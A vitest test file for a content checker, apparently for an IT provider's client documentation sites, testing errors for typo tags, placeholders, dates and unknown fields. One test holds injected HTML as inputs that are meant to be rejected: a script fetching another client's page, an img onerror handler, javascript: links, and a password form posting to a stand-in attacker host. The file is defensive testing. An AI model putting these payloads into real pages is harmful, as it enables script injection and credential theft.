import { afterEach, describe, expect, it } from 'vitest';
import { makeTempRepo, removeTempRepo, runBinder } from './helpers/temp-repo.ts';

/**
 * The mistakes people really make when they adopt msp-binder (issue "Adopted by a real MSP"):
 * each gives exit 1 and one error at its file and line, with the fix.
 */
const roots: string[] = [];
afterEach(async () => {
  await Promise.all(roots.splice(0).map(removeTempRepo));
});

async function errorsWith(files: Record<string, string | null>): Promise<{ code: number; lines: string[] }> {
  const root = await makeTempRepo(files);
  roots.push(root);
  const result = await runBinder(root, ['check']);
  return { code: result.code, lines: result.stdout.split('\n').slice(0, -1) };
}

const acme = (extra: string) =>
  `---\nname: Acme Dental\ntimezone: America/Chicago\nvisit: second tuesday\n${extra}\n---\nAcme.\n`;
const note = (front: string, body = 'Replaced the UPS battery.') => `---\n${front}\n---\n\n${body}\n`;

describe('check catches what people get wrong', () => {
  it('an unknown tag is an error with "did you mean" (windows-sever dropped a client’s server items)', async () => {
    const { code, lines } = await errorsWith({
      'content/clients/acme/index.md': acme('tags: [windows-sever, ups]'),
    });
    expect(code).toBe(1);
    expect(lines).toEqual([
      expect.stringMatching(
        /^content\/clients\/acme\/index\.md:5:8: tag `windows-sever` is used by no checklist item and not declared in msp\.yaml: did you mean `windows-server`\?/,
      ),
    ]);
  });

  it('a tag declared in msp.yaml (for reports, filters) is accepted', async () => {
    const msp =
      'name: Test MSP\nsiteUrl: https://docs.test-msp.example\nrepo: test-msp/binders\ntimezone: America/New_York\ntags: [dental]\n';
    const { code } = await errorsWith({
      'content/msp.yaml': msp,
      'content/clients/acme/index.md': acme('tags: [dental, ups]'),
    });
    expect(code).toBe(0);
  });

  it('a tech note still holding new-note’s placeholders is an error', async () => {
    const { code, lines } = await errorsWith({
      'content/clients/acme/notes/2026-12-08-visit.md': note(
        'date: 2026-12-08\nauthor: your-github-login\ntitle: Visit',
        'What was done, what was found, what is left to do.',
      ),
    });
    expect(code).toBe(1);
    expect(lines).toEqual([
      expect.stringMatching(
        /notes\/2026-12-08-visit\.md:3:9: `author` is still the placeholder `your-github-login`/,
      ),
      expect.stringMatching(
        /notes\/2026-12-08-visit\.md:7:1: the note still holds new-note's placeholder text/,
      ),
    ]);
  });

  it('an unknown field points at the key, with "did you mean"', async () => {
    const { lines } = await errorsWith({
      'content/clients/acme/index.md': acme('asignees:\n  onsite: [jane-tech]'),
    });
    expect(lines).toEqual([
      'content/clients/acme/index.md:5:1: unknown field `asignees` in a client profile: did you mean `assignees`? Fix: rename it to `assignees` (see docs/content-format.md)',
    ]);
  });

  it.each([
    ['11/20/2026', 'write it `YYYY-MM-DD`'],
    ['2026-11-5', 'write it `YYYY-MM-DD`'],
    ['2026-11-31', 'November 2026 has 30 days'],
  ])('the date %s gives one error with the fix', async (date, fix) => {
    const { code, lines } = await errorsWith({
      'content/clients/acme/binder/backups.md': `---\ntitle: Backups\nreviewed: ${date}\n---\nNAS.\n`,
    });
    expect(code).toBe(1);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('content/clients/acme/binder/backups.md:3:11:');
    expect(lines[0]).toContain(fix);
  });

  it('HTML that would run script, frame or ask for input in a page is an error at its line, with the fix', async () => {
    const { code, lines } = await errorsWith({
      'content/clients/acme/notes/2026-12-08-visit.md': note(
        'date: 2026-12-08\nauthor: jane-tech\ntitle: Visit',
        [
          'Replaced the UPS battery. <kbd>Ctrl</kbd> <abbr title="Uninterruptible power supply">UPS</abbr>',
          '',
          "<script>fetch('/clients/other-client/binder/firewall/')</script>",
          '',
          'Photo: <img src=x onerror="fetch(\'/clients/other-client/\')"> and <a href="javascript:alert(1)">the portal</a>.',
          '',
          '<iframe src="https://evil.example/"></iframe>',
          '',
          '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
          '',
          '[markdown link](javascript:alert(2)) and <details><summary>More</summary>fine</details>',
        ].join('\n'),
      ),
    });
    expect(code).toBe(1);
    expect(lines).toMatchInlineSnapshot(`
      [
        "content/clients/acme/notes/2026-12-08-visit.md:9:1: \`<script>\` is not allowed in content: the sites drop it and what it holds Fix: remove it: the sites never run scripts or styles from content",
        "content/clients/acme/notes/2026-12-08-visit.md:11:8: \`<img>\` has attribute \`onerror\`, which the sites drop Fix: remove it: content cannot run code on the sites",
        "content/clients/acme/notes/2026-12-08-visit.md:11:8: broken link \`x\`: no such file content/clients/acme/notes/x Fix: correct the path (relative to this file) or remove the link",
        "content/clients/acme/notes/2026-12-08-visit.md:11:66: link \`javascript:alert(1)\`: the sites keep only http, https, mailto and relative links, and drop this one Fix: link to an http(s) page, a mailto: address or another file in content/",
        "content/clients/acme/notes/2026-12-08-visit.md:13:1: \`<iframe>\` is not allowed in content: the sites drop it Fix: remove it; content may use Markdown and simple HTML: tables, \`<br>\`, \`<details>\`/\`<summary>\`, \`<kbd>\`, \`<abbr>\`, \`<sup>\`/\`<sub>\` (docs/content-format.md lists it)",
        "content/clients/acme/notes/2026-12-08-visit.md:15:1: \`<form>\` is not allowed in content: the sites drop it Fix: remove it; content may use Markdown and simple HTML: tables, \`<br>\`, \`<details>\`/\`<summary>\`, \`<kbd>\`, \`<abbr>\`, \`<sup>\`/\`<sub>\` (docs/content-format.md lists it)",
        "content/clients/acme/notes/2026-12-08-visit.md:15:43: \`<input>\` is not allowed in content: the sites drop it Fix: remove it; content may use Markdown and simple HTML: tables, \`<br>\`, \`<details>\`/\`<summary>\`, \`<kbd>\`, \`<abbr>\`, \`<sup>\`/\`<sub>\` (docs/content-format.md lists it)",
        "content/clients/acme/notes/2026-12-08-visit.md:17:1: link \`javascript:alert(2)\`: the sites keep only http, https, mailto and relative links, and drop this one Fix: link to an http(s) page, a mailto: address or another file in content/",
      ]
    `);
  });

  it('a client profile that fails validation is one error, not one more per archive', async () => {
    const archive = (tier: string) =>
      `---\nclient: acme\nmonth: 2026-11\ntier: ${tier}\ntemplate: monthly\nissue: 3\nurl: https://github.com/t/b/issues/3\nstate: completed\nclosedAt: 2026-11-10T10:00:00Z\nclosedBy: jane-tech\nitems:\n  - id: checkin-contact\n    text: Client check-in\n    status: done\n---\n`;
    const { lines } = await errorsWith({
      'content/clients/acme/index.md': acme('status: retired'),
      'content/checklists/acme/2026-11-onsite.md': archive('onsite'),
      'content/checklists/acme/2026-11-remote.md': archive('remote'),
    });
    expect(lines.filter((line) => line.includes('has no profile'))).toEqual([]);
    expect(lines.filter((line) => line.startsWith('content/clients/acme/index.md'))).toHaveLength(1);
    expect(lines).toHaveLength(1);
  });
});
